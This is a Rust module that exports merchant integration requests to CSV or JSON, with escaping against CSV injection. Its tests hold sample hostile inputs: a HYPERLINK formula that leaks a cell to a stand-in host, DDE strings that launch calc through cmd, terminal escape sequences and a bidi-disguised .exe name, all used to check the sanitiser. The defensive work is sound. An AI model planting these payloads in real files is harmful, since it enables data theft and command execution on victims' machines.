//! Writing a list of requests as CSV or JSON, for `intake list --csv|--json`
//! and the console's export. Merchant names ride along when they are known.

use std::io::{self, Write};
use std::path::{Path, PathBuf};

use serde::Serialize;

use crate::api::model::format_timestamp;
use crate::api::{IntegrationRequest, Merchant, Merchants};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    Csv,
    Json,
}

impl ExportFormat {
    /// By the file's extension; `None` for anything but .csv and .json.
    pub fn from_path(path: &Path) -> Option<ExportFormat> {
        match path.extension()?.to_str()?.to_ascii_lowercase().as_str() {
            "csv" => Some(ExportFormat::Csv),
            "json" => Some(ExportFormat::Json),
            _ => None,
        }
    }
}

pub const CSV_HEADER: [&str; 12] = [
    "id",
    "status",
    "type",
    "merchantId",
    "accountId",
    "terminalId",
    "createdAt",
    "updatedAt",
    "createdBy",
    "updatedBy",
    "merchantName",
    "merchantTest",
];

pub fn csv<'a>(
    out: &mut impl Write,
    items: impl IntoIterator<Item = &'a IntegrationRequest>,
    merchants: &Merchants,
) -> io::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(CSV_HEADER).map_err(io::Error::other)?;
    for r in items {
        let m = merchants.get(&r.merchant_id);
        let cells = [
            r.id.as_str(),
            r.status.as_str(),
            r.kind.as_str(),
            r.merchant_id.as_str(),
            r.account_id.as_str(),
            r.effective_terminal_id().unwrap_or(""),
            &timestamp_cell(r.created_at.as_ref()),
            &timestamp_cell(r.updated_at.as_ref()),
            r.created_by.as_deref().unwrap_or(""),
            r.updated_by.as_deref().unwrap_or(""),
            m.map_or("", |m| m.name.as_str()),
            match m {
                Some(m) if m.test => "true",
                Some(_) => "false",
                None => "",
            },
        ];
        w.write_record(cells.map(spreadsheet_cell))
            .map_err(io::Error::other)?;
    }
    w.flush()
}

/// A cell as a spreadsheet opens it: cleaned as terminal text is, and one a
/// spreadsheet would run as a formula (starting `=`, `+`, `-`, `@`, tab or
/// carriage return) starts with `'`, as OWASP advises against CSV
/// injection. Scripts that need the exact values read `--json`.
pub fn spreadsheet_cell(raw: &str) -> String {
    let cleaned = crate::text::clean(raw);
    let formula = |c: Option<char>| matches!(c, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
    match formula(raw.chars().next()) || formula(cleaned.chars().next()) {
        true => format!("'{cleaned}"),
        false => cleaned,
    }
}

/// A timestamp for a CSV cell; one the server left out is an empty cell, as
/// every other missing field in the CSV is, so scripts reading dates never
/// meet a `-`.
fn timestamp_cell(t: Option<&chrono::DateTime<chrono::Utc>>) -> String {
    t.map(format_timestamp).unwrap_or_default()
}

/// A request as exported to JSON, and as `intake list --json` and `intake
/// show --json` print it: the API's fields as sent plus the merchant's name.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Exported<'a> {
    #[serde(flatten)]
    request: &'a IntegrationRequest,
    #[serde(skip_serializing_if = "Option::is_none")]
    merchant_name: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    merchant_test: Option<bool>,
}

impl<'a> Exported<'a> {
    /// `merchant`: its name when it could be looked up.
    pub fn new(request: &'a IntegrationRequest, merchant: Option<&'a Merchant>) -> Exported<'a> {
        Exported {
            request,
            merchant_name: merchant.map(|m| m.name.as_str()),
            merchant_test: merchant.map(|m| m.test),
        }
    }
}

pub fn json<'a>(
    out: &mut impl Write,
    items: impl IntoIterator<Item = &'a IntegrationRequest>,
    merchants: &Merchants,
) -> io::Result<()> {
    let rows: Vec<Exported<'_>> = items
        .into_iter()
        .map(|request| Exported::new(request, merchants.get(&request.merchant_id)))
        .collect();
    serde_json::to_writer_pretty(&mut *out, &rows).map_err(io::Error::other)?;
    writeln!(out)
}

/// Write `items` to `path` in `format`, via a temporary file renamed into
/// place, so a failed export never leaves half a file under the real name.
/// A file already there is replaced only when `replace` says so
/// (`ErrorKind::AlreadyExists` otherwise).
pub fn to_file<'a>(
    path: &Path,
    format: ExportFormat,
    items: impl IntoIterator<Item = &'a IntegrationRequest>,
    merchants: &Merchants,
    replace: bool,
) -> io::Result<()> {
    let exists = || !replace && path.try_exists().unwrap_or(true);
    if exists() {
        return Err(io::ErrorKind::AlreadyExists.into());
    }
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let name = path
        .file_name()
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "the path names no file"))?;
    let tmp = dir.join(format!(".{}.intake-tmp", name.to_string_lossy()));
    let result = (|| {
        let mut out = io::BufWriter::new(std::fs::File::create(&tmp)?);
        match format {
            ExportFormat::Csv => csv(&mut out, items, merchants)?,
            ExportFormat::Json => json(&mut out, items, merchants)?,
        }
        out.into_inner()
            .map_err(std::io::IntoInnerError::into_error)?
            .sync_all()?;
        // Written meanwhile by someone else: theirs stays.
        if exists() {
            return Err(io::ErrorKind::AlreadyExists.into());
        }
        std::fs::rename(&tmp, path)
    })();
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result
}

/// Why the console's export wrote nothing.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExportError {
    /// The file is there and replacing it was not asked for: the console
    /// asks first.
    #[error("A file of that name already exists.")]
    Exists,
    /// A sentence saying what happened and what to do.
    #[error("{0}")]
    Failed(String),
}

/// Write an export off the async threads, for the console. `path` as typed
/// (`~/` is the home folder); a file already there is replaced only when
/// `replace` says so. A failure comes back as a sentence saying what to do.
pub async fn write(
    path: PathBuf,
    format: ExportFormat,
    requests: Vec<IntegrationRequest>,
    merchants: Merchants,
    replace: bool,
) -> Result<(), ExportError> {
    // As the console shows paths: control characters cleaned out.
    let shown = crate::text::clean(&path.display().to_string());
    let path = crate::paths::expand_home(&path);
    let written =
        tokio::task::spawn_blocking(move || to_file(&path, format, &requests, &merchants, replace))
            .await;
    match written {
        Ok(Ok(())) => Ok(()),
        Ok(Err(e)) if e.kind() == io::ErrorKind::AlreadyExists => Err(ExportError::Exists),
        Ok(Err(e)) => Err(ExportError::Failed(format!(
            "Could not export to {shown} ({e}); check that the folder exists and is writable."
        ))),
        Err(e) => Err(ExportError::Failed(format!(
            "Could not export to {shown}: the writer stopped ({e})."
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::{IntegrationType, Merchant, Status};

    fn request(id: &str, merchant: &str, terminal: Option<&str>) -> IntegrationRequest {
        let t = chrono::DateTime::parse_from_rfc3339("2026-11-20T01:02:03.456Z")
            .expect("valid")
            .with_timezone(&chrono::Utc);
        IntegrationRequest {
            id: id.into(),
            account_id: "Jaiwie7aiNg2".into(),
            merchant_id: merchant.into(),
            kind: IntegrationType::Epay,
            status: Status::Pending,
            terminal_id: terminal.map(str::to_string),
            created_at: Some(t),
            updated_at: Some(t),
            created_by: Some("crn:user:1".into()),
            updated_by: None,
            terminal: None,
            product: None,
            as_sent: Default::default(),
        }
    }

    fn merchants() -> Merchants {
        let m = Merchant {
            id: "5ee0cafe".into(),
            account_id: None,
            name: "Cafe, \"Corner\"".into(),
            country: None,
            test: true,
        };
        Merchants::from([(m.id.clone(), m)])
    }

    /// Names a merchant could type: escapes, a bell, bidi and invisible
    /// characters, and formulas a spreadsheet would run.
    pub(crate) const HOSTILE: [&str; 8] = [
        "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"Open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\tTabbed",
        "Clear\u{1b}[2J\u{1b}]52;c;aGk=\u{7}me\u{8}\u{9b}31m",
        "Cafe \u{202E}gnp.exe\u{202C} Ltd",
        "Zero\u{200B}width\u{FEFF}\u{2066}Ltd",
    ];

    #[test]
    fn no_csv_cell_carries_a_control_an_invisible_character_or_a_live_formula() {
        let items: Vec<IntegrationRequest> = (0..HOSTILE.len())
            .map(|i| request(&format!("r{i}"), &format!("m{i}"), Some("=1+1")))
            .collect();
        let merchants: Merchants = HOSTILE
            .iter()
            .enumerate()
            .map(|(i, name)| {
                let m = Merchant {
                    id: format!("m{i}"),
                    account_id: None,
                    name: name.to_string(),
                    country: None,
                    test: false,
                };
                (m.id.clone(), m)
            })
            .collect();
        let mut out = Vec::new();
        csv(&mut out, &items, &merchants).expect("write");
        let text = String::from_utf8(out.clone()).expect("utf-8");
        for c in text.chars() {
            let record_end = c == '\n';
            assert!(record_end || !c.is_control(), "{c:?} in {text}");
            assert!(crate::text::pasteable(c) || record_end, "{c:?} in {text}");
        }
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        for row in reader.records() {
            for cell in &row.expect("a row") {
                assert!(
                    !matches!(
                        cell.chars().next(),
                        Some('=' | '+' | '-' | '@' | '\t' | '\r')
                    ),
                    "a live formula: {cell:?}"
                );
            }
        }
        // What the operator sees is still there, marked: not dropped.
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.contains("Clear␛[2J"), "{text}");
    }

    #[test]
    fn csv_round_trips_with_names() {
        let items = [
            request("aaa1", "5ee0cafe", Some("12345")),
            request("bbb2", "6ff1", None),
        ];
        let mut out = Vec::new();
        csv(&mut out, &items, &merchants()).expect("write");
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        assert_eq!(
            reader.headers().expect("header").iter().collect::<Vec<_>>(),
            CSV_HEADER
        );
        let rows: Vec<::csv::StringRecord> =
            reader.records().collect::<Result<_, _>>().expect("rows");
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][0], "aaa1");
        assert_eq!(&rows[0][5], "12345");
        assert_eq!(&rows[0][6], "2026-11-20T01:02:03.456Z");
        assert_eq!(&rows[0][10], "Cafe, \"Corner\"");
        assert_eq!(&rows[0][11], "true");
        assert_eq!(&rows[1][10], "");
    }

    #[test]
    fn json_round_trips_into_the_model() {
        let items = [
            request("aaa1", "5ee0cafe", Some("12345")),
            request("bbb2", "6ff1", None),
        ];
        let mut out = Vec::new();
        json(&mut out, &items, &merchants()).expect("write");
        let back: Vec<IntegrationRequest> =
            serde_json::from_slice(&out).expect("decodes as requests");
        assert_eq!(back, items);
        let raw: serde_json::Value = serde_json::from_slice(&out).expect("json");
        assert_eq!(raw[0]["merchantName"], "Cafe, \"Corner\"");
        assert!(raw[1].get("merchantName").is_none());
    }

    #[test]
    fn to_file_writes_by_extension_and_leaves_no_temp_file() {
        let dir = std::env::temp_dir().join(format!("intake-export-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let path = dir.join("view.json");
        let format = ExportFormat::from_path(&path).expect("json by extension");
        let items = [request("aaa1", "5ee0cafe", None)];
        to_file(&path, format, &items, &Merchants::new(), false).expect("export");
        let back: Vec<IntegrationRequest> =
            serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("decode");
        assert_eq!(back.len(), 1);
        assert_eq!(std::fs::read_dir(&dir).expect("list").count(), 1);
        // A file already there stays unless replacing it was asked for.
        let two = [items[0].clone(), request("bbb2", "5ee0cafe", None)];
        let e = to_file(&path, format, &two, &Merchants::new(), false).expect_err("exists");
        assert_eq!(e.kind(), io::ErrorKind::AlreadyExists);
        let kept: Vec<IntegrationRequest> =
            serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("decode");
        assert_eq!(kept.len(), 1);
        to_file(&path, format, &two, &Merchants::new(), true).expect("replaced");
        let back: Vec<IntegrationRequest> =
            serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("decode");
        assert_eq!(back.len(), 2);
        assert_eq!(std::fs::read_dir(&dir).expect("list").count(), 1);
        assert_eq!(ExportFormat::from_path(Path::new("x.txt")), None);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn missing_timestamps_export_as_empty_cells_and_absent_keys() {
        let mut r = request("ccc3", "6ff1", None);
        r.created_at = None;
        r.updated_at = None;
        let mut out = Vec::new();
        csv(&mut out, [&r], &Merchants::new()).expect("csv");
        let text = String::from_utf8(out).expect("utf8");
        let row = text.lines().nth(1).expect("a row");
        assert_eq!(row, "ccc3,pending,epay,6ff1,Jaiwie7aiNg2,,,,crn:user:1,,,");
        let mut out = Vec::new();
        json(&mut out, [&r], &Merchants::new()).expect("json");
        let v: serde_json::Value = serde_json::from_slice(&out).expect("json");
        assert!(v[0].get("createdAt").is_none(), "{v}");
        let back: Vec<IntegrationRequest> = serde_json::from_value(v).expect("decodes");
        assert_eq!(back, [r]);
    }
}
